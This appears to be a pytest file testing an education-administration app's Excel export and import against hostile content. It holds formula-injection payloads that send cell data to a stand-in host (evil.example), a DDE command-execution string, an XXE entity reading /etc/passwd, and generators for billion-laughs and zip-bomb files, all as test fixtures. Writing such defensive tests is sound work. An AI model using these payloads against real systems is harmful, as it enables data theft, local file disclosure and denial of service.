"""Excel in and out against hostile content: formulas planted in exported text,
and uploads built to exhaust a worker or crash the reader (zip bombs, entity
expansion, external entities, huge sheets, damaged cells)."""

from __future__ import annotations

import functools
import io
import time
import zipfile
from collections.abc import Callable
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from edubureau.audit.models import Action, AuditEvent
from edubureau.core import excel
from edubureau.core.excel import Column, ImportRejected, read_sheet, write_workbook
from edubureau.orgs.models import School

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes) -> list:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


# Export -----------------------------------------------------------------------------


def test_it_writes_formula_like_text_as_text_and_leaves_numbers_alone():
    columns = [Column("text", "内容"), Column("n", "数量"), Column("d", "日期")]
    rows = [[text, -5, date(2026, 3, 16)] for text in HOSTILE]
    rows.append(["普通文字", Decimal("-1.5"), -2.25])
    content = write_workbook(title="测试", columns=columns, rows=rows, note="=1+1\n- 说明")
    cells = _assert_no_formula(content)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    texts = [sheet.cell(row=i, column=1) for i in range(2, len(HOSTILE) + 2)]
    # Marked as text; a CR (a trigger too) is kept as the line break an .xlsx holds.
    assert [c.value for c in texts] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert {c.data_type for c in texts} == {"s"}
    assert [sheet.cell(row=i, column=2).value for i in range(2, len(HOSTILE) + 3)] == [
        *([-5] * len(HOSTILE)),
        -1.5,
    ]
    assert sheet.cell(row=2, column=2).data_type == "n"
    assert sheet.cell(row=len(HOSTILE) + 2, column=3).value == -2.25
    assert sheet.cell(row=len(HOSTILE) + 2, column=1).value == "普通文字"
    assert sheet.cell(row=2, column=3).value.date() == date(2026, 3, 16)
    notes = [c.value for c in cells if c.parent.title == "说明"]
    assert notes == ["'=1+1", "'- 说明"]


def test_it_drops_control_characters_an_xlsx_cannot_hold_instead_of_failing():
    content = write_workbook(title="测试", columns=[Column("t", "内容")], rows=[["a\x00b\x1fc"]])
    assert load_workbook(io.BytesIO(content)).worksheets[0]["A2"].value == "abc"


def test_the_reader_takes_back_what_the_writer_marked():
    columns = [Column("text", "内容")]
    content = write_workbook(title="测试", columns=columns, rows=[[t] for t in HOSTILE])
    parsed = read_sheet(io.BytesIO(content), columns)
    assert [r.values["text"] for r in parsed.rows] == [t.strip() for t in HOSTILE]


def test_a_hazard_export_carries_a_planted_formula_as_text(cast, client_for):
    from edubureau.safety.tests.factories_hazards import make_hazard

    description = '=HYPERLINK("http://evil.example/steal?x="&A2,"详情")'
    make_hazard(cast, description=description)
    response = client_for(cast.safety_staff).get(reverse("safety:hazard-export"))
    assert response.status_code == 200
    cells = _assert_no_formula(response.content)
    assert "'" + description in [c.value for c in cells]


def test_a_school_directory_export_carries_a_planted_formula_as_text(cast, client_for):
    School.objects.filter(pk=cast.school_a.pk).update(
        name="=cmd|' /C calc'!A0", principal="@SUM(1,2)", phone="-1234"
    )
    response = client_for(cast.admin).get(reverse("orgs:school-export"))
    values = [c.value for c in _assert_no_formula(response.content)]
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1,2)", "'-1234"} <= set(values)
    # The export is the import template: it comes back unchanged.
    upload = io.BytesIO(response.content)
    upload.name = "schools.xlsx"
    client_for(cast.admin).post(reverse("orgs:school-import"), {"file": upload})
    cast.school_a.refresh_from_db()
    assert (cast.school_a.name, cast.school_a.principal) == ("=cmd|' /C calc'!A0", "@SUM(1,2)")


# Import: hostile packages ---------------------------------------------------------

COLUMNS = [Column("name", "名称", required=True), Column("count", "数量")]


def _parts(headers: tuple[str, ...] = ("名称", "数量")) -> dict[str, bytes]:
    """The parts of a small, valid workbook (header and one row), to tamper with."""
    workbook = Workbook()
    workbook.active.title = "学校名录"
    workbook.active.append(headers)
    workbook.active.append(["甲", 1])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _package(parts: dict[str, bytes | Callable[[zipfile.ZipFile, str], None]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            if callable(content):
                content(archive, name)
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


def _streamed(chunk: bytes, times: int) -> Callable[[zipfile.ZipFile, str], None]:
    """A part of ``len(chunk) * times`` bytes, written without holding it in memory."""

    def write(archive: zipfile.ZipFile, name: str) -> None:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as part:
            for _ in range(times):
                part.write(chunk)

    return write


def _sheet_xml(rows: bytes, dimension: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + dimension
        + b"<sheetData>"
        + rows
        + b"</sheetData></worksheet>"
    )


HEADER_ROW = (
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xe5\x90\x8d\xe7\xa7\xb0</t></is></c></row>'
)
SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)


@functools.cache
def _shared_strings_bomb() -> bytes:
    # 64 MB of shared strings (the reported file held 1.5 GB) in ~70 KB.
    parts: dict = dict(_parts())
    parts["xl/sharedStrings.xml"] = _streamed(b"<si><t>" + b"A" * 4089 + b"</t></si>", 16_000)
    return _package(parts)


def _four_million_cells() -> bytes:
    rows = b'<row r="2">' + b"<c/>" * 4_000_000 + b"</row>"
    return _package(_parts() | {SHEET: _sheet_xml(HEADER_ROW + rows)})


def _rows(count: int, dimension: bool) -> bytes:
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x%d</t></is></c></row>' % (r, r, r)
        for r in range(2, count + 2)
    )
    ref = b'<dimension ref="A1:A%d"/>' % (count + 1) if dimension else b""
    return _package(_parts() | {SHEET: _sheet_xml(HEADER_ROW + rows, ref)})


def _bad_number() -> bytes:
    # The school directory's headers, so that an importer reads on to the bad cell.
    from edubureau.orgs.services.schools import SCHOOL_COLUMNS

    parts = _parts(("名称", *(c.header for c in SCHOOL_COLUMNS)))
    sheet = parts[SHEET]
    start = sheet.index(b'<row r="2"')
    end = sheet.index(b"</row>", start) + len(b"</row>")
    row = b'<row r="2"><c r="A2"><v>1e999999x</v></c></row>'
    return _package(parts | {SHEET: sheet[:start] + row + sheet[end:]})


def _with_dtd(part: str, prolog: bytes) -> bytes:
    parts = _parts()
    body = parts[part].split(b"?>", 1)[1] if parts[part].startswith(b"<?xml") else parts[part]
    return _package(parts | {part: prolog + body})


XXE = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_UTF16 = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x [<!ENTITY a "b">]>').encode(
    "utf-16"
)


def _corrupt_member() -> bytes:
    content = bytearray(_package(_parts() | {SHEET: _sheet_xml(HEADER_ROW * 2000)}))
    start = content.index(SHEET.encode()) + len(SHEET) + 200
    content[start : start + 64] = bytes(64)
    return bytes(content)


def _odd_ratio() -> bytes:
    return _package(_parts() | {"xl/styles.xml": b"<styleSheet>" + b" " * (5 * 1024 * 1024)})


HOSTILE_FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "not a zip": (lambda: b"PK\x03\x04 not really a zip", "不是有效的Excel"),
    "truncated zip": (lambda: _package(_parts())[:-200], "不是有效的Excel"),
    "a zip without a workbook": (lambda: _package({"a.txt": b"hello"}), "不是有效的Excel"),
    "a corrupt part": (_corrupt_member, "不是有效的Excel"),
    "a shared strings bomb": (_shared_strings_bomb, "文件解压后过大"),
    "a part compressed a thousand times": (_odd_ratio, "压缩比例异常"),
    "4 million cells": (_four_million_cells, "压缩比例异常"),
    "100,000 rows with their dimension": (lambda: _rows(100_000, True), "超过20000行"),
    "100,000 rows without a dimension": (lambda: _rows(100_000, False), "超过20000行"),
    "a damaged number": (_bad_number, "第2行：该行内容已损坏"),
    "billion laughs in a sheet": (lambda: _with_dtd(SHEET, LAUGHS), "DOCTYPE或ENTITY"),
    "an external entity in a sheet": (lambda: _with_dtd(SHEET, XXE), "DOCTYPE或ENTITY"),
    "an external entity in the workbook": (
        lambda: _with_dtd("xl/workbook.xml", XXE),
        "DOCTYPE或ENTITY",
    ),
    "an entity in UTF-16": (lambda: _with_dtd("xl/workbook.xml", XXE_UTF16), "DOCTYPE或ENTITY"),
    "a DTD after a long comment": (
        lambda: _with_dtd(SHEET, b"<!--" + b"x" * 200_000 + b"-->" + XXE.split(b"\n")[1]),
        "DOCTYPE或ENTITY",
    ),
}


@pytest.mark.parametrize("case", HOSTILE_FILES)
def test_the_reader_refuses_a_hostile_file_quickly_with_a_message(case):
    build, message = HOSTILE_FILES[case]
    content = build()
    assert len(content) < 2 * 1024 * 1024
    started = time.monotonic()
    with pytest.raises(ImportRejected) as refused:
        parsed = read_sheet(io.BytesIO(content), COLUMNS)
        raise ImportRejected(parsed.errors) if parsed.errors else AssertionError(parsed)
    elapsed = time.monotonic() - started
    errors = [str(e) for e in refused.value.errors]
    assert len(errors) == 1 and message in errors[0], errors
    assert elapsed < 3, f"{case} took {elapsed:.1f} s"


def test_the_reader_counts_cells_before_openpyxl_reads_them(monkeypatch):
    # Without the compression check, the 4 million cells (54 s in openpyxl) are
    # still refused by counting them in the raw XML.
    monkeypatch.setattr(excel, "MAX_COMPRESSION_RATIO", 10**9)
    content = _four_million_cells()
    started = time.monotonic()
    with pytest.raises(ImportRejected) as refused:
        read_sheet(io.BytesIO(content), COLUMNS)
    assert [str(e) for e in refused.value.errors] == [
        "工作表的单元格超过1000000个，请删除无关内容或拆分后导入"
    ]
    assert time.monotonic() - started < 3


@pytest.mark.parametrize(
    "case", ["a shared strings bomb", "billion laughs in a sheet", "a damaged number"]
)
def test_an_import_view_refuses_a_hostile_file_and_imports_nothing(cast, client_for, case):
    build, message = HOSTILE_FILES[case]
    before = list(School.objects.order_by("pk").values())
    upload = io.BytesIO(build())
    upload.name = "schools.xlsx"
    response = client_for(cast.admin).post(reverse("orgs:school-import"), {"file": upload})
    assert response.status_code == 200
    assert message in "".join(response.context["errors"])
    assert list(School.objects.order_by("pk").values()) == before
    assert not AuditEvent.objects.filter(action=Action.IMPORT).exists()


def test_a_ledger_import_refuses_an_external_entity(cast, client_for):
    from edubureau.safety.models import Drill

    upload = io.BytesIO(_with_dtd(SHEET, XXE))
    upload.name = "drills.xlsx"
    response = client_for(cast.school_a_officer).post(
        reverse("safety:drill-import"), {"file": upload}
    )
    assert response.status_code == 200
    assert "DOCTYPE或ENTITY" in response.context["errors"][0]
    assert not Drill.objects.exists()


def _workbook(rows: int, columns: int = 2) -> io.BytesIO:
    workbook = Workbook()
    workbook.active.append(["名称", *(f"列{i}" for i in range(2, columns + 1))])
    for i in range(rows):
        workbook.active.append([f"学校{i}", *range(2, columns + 1)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def test_the_row_limit_lets_a_full_sheet_through_and_refuses_one_row_more(monkeypatch):
    monkeypatch.setattr(excel, "MAX_IMPORT_ROWS", 300)
    assert len(read_sheet(_workbook(300), COLUMNS).rows) == 300
    with pytest.raises(ImportRejected) as refused:  # counted in the raw XML
        read_sheet(_workbook(301), COLUMNS)
    assert [str(e) for e in refused.value.errors] == ["文件中有工作表的数据超过300行，请拆分后导入"]


def test_the_row_limit_holds_for_rows_the_sheet_only_implies(monkeypatch):
    monkeypatch.setattr(excel, "MAX_IMPORT_ROWS", 300)
    # Two <row> elements, rows 2 to 999 implied empty, no dimension: read and counted.
    far = b'<row r="1000"><c r="A1000" t="inlineStr"><is><t>x</t></is></c></row>'
    parsed = read_sheet(
        io.BytesIO(_package(_parts() | {SHEET: _sheet_xml(HEADER_ROW + far)})), COLUMNS
    )
    assert [str(e) for e in parsed.errors] == [
        "工作表“学校名录”第302行：数据超过300行，请拆分后导入"
    ]
    # A dimension claiming more rows than allowed is refused before any row is read.
    claim = b'<dimension ref="A1:B5000"/>'
    sheet = _sheet_xml(HEADER_ROW, claim)
    parsed = read_sheet(io.BytesIO(_package(_parts() | {SHEET: sheet})), COLUMNS)
    assert [str(e) for e in parsed.errors] == ["工作表“学校名录”：数据超过300行，请拆分后导入"]


def test_the_column_limit_refuses_a_sheet_too_wide(monkeypatch):
    monkeypatch.setattr(excel, "MAX_IMPORT_COLUMNS", 5)
    assert read_sheet(_workbook(3, columns=5), COLUMNS).errors == []
    parsed = read_sheet(_workbook(3, columns=6), COLUMNS)
    assert [str(e) for e in parsed.errors] == ["工作表“Sheet”第1行：超过5列，请删除无关的列后导入"]


def test_a_file_level_error_names_no_sheet():
    assert str(excel.file_error("文件超过20MB，请拆分后导入")) == "文件超过20MB，请拆分后导入"
